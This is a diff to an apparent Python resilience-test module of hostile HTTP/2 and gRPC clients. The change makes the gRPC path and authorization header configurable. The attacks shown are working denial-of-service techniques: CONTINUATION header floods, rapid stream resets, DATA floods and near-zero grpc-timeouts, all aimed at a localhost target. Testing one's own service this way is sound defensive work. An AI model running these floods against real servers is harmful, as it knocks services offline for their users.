@@ -1,6 +1,7 @@
 """What hostile clients do, for goal D4: each kind goes on until its time is over, and swallows that it is cut off.
 
-A target is (name of the port, connect(*protocols) -> socket); `h2` is what it speaks first. Tokens are those of callers that may come in.
+`connect(*protocols)` opens a connection, of which the first protocol is what it speaks; `path` is the call of gRPC that is made, with `credentials`
+as one of its headers or without any. Tokens are those of callers that may come in.
 """
 
 import contextlib
@@ -23,7 +24,7 @@ def literal(name, value):
     return b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value
 
 
-def head(path=b"/mlup.reports.v1.ReportService/ListPeriods", *more):
+def head(path, *more):
     fields = [(b":method", b"POST"), (b":scheme", b"http"), (b":path", path), (b":authority", b"localhost"), (b"te", b"trailers"),
               (b"content-type", b"application/grpc"), *more]
     return b"".join(literal(name, value) for name, value in fields)
@@ -32,8 +33,12 @@ def head(path=b"/mlup.reports.v1.ReportService/ListPeriods", *more):
 class Attack:
     """One kind at one target, until `until`."""
 
-    def __init__(self, connect, until, tokens):
+    def __init__(self, connect, until, tokens, path, credentials=None):
         self.connect, self.until, self.tokens = connect, until, tokens
+        self.path, self.credentials = path, [(b"authorization", credentials)] if credentials else []
+
+    def head(self, *more):
+        return head(self.path, *self.credentials, *more)
 
     def goes_on(self):
         return time.monotonic() < self.until
@@ -63,7 +68,7 @@ class Attack:
                     connection.sendall(b"".join(frames) * 16)
             time.sleep(0.002)
 
-    def streams(self, *after, hold=False, **more):
+    def streams(self, *after, hold=False, more=()):
         """Calls that are opened, and what follows on each."""
         while self.goes_on():
             with contextlib.suppress(OSError, ValueError), self.connect("h2") as connection:
@@ -73,7 +78,7 @@ class Attack:
                     if not self.goes_on():
                         break
                     stream = 2 * number + 1
-                    connection.sendall(frame(HEADERS, 4, stream, head(**more)) + b"".join(frame(kind, flags, stream, payload)
+                    connection.sendall(frame(HEADERS, 4, stream, self.head(*more)) + b"".join(frame(kind, flags, stream, payload)
                                                                                          for kind, flags, payload in after))
                 while hold and self.goes_on():
                     time.sleep(0.1)
@@ -138,7 +143,7 @@ class Attack:
         while self.goes_on():
             with contextlib.suppress(OSError, ValueError), self.connect("h2") as connection:
                 connection.settimeout(1)
-                connection.sendall(PREFACE + frame(SETTINGS, 0, 0) + frame(HEADERS, 0, 1, head()))
+                connection.sendall(PREFACE + frame(SETTINGS, 0, 0) + frame(HEADERS, 0, 1, self.head()))
                 while self.goes_on():
                     connection.sendall(frame(CONTINUATION, 0, 1, literal(b"a", b"b" * 100) * 100))
             time.sleep(0.002)
@@ -159,7 +164,7 @@ class Attack:
         self.pour(frame(DATA, 0, 99, b"x" * 1024))
 
     def no_time(self):
-        self.streams((DATA, 1, b"\0\0\0\0\0"), more=(b"grpc-timeout", b"1n"))
+        self.streams((DATA, 1, b"\0\0\0\0\0"), more=((b"grpc-timeout", b"1n"),))
 
     def cancels(self):
         self.streams((DATA, 1, b"\0\0\0\0\0"), (RST, 0, b"\0\0\0\x08"))
@@ -241,4 +246,4 @@ class Attack:
 
 
 KINDS = [name for name in vars(Attack) if not name.startswith("_") and
-         name not in ("goes_on", "again", "say", "pour", "streams", "post")]
+         name not in ("head", "goes_on", "again", "say", "pour", "streams", "post")]
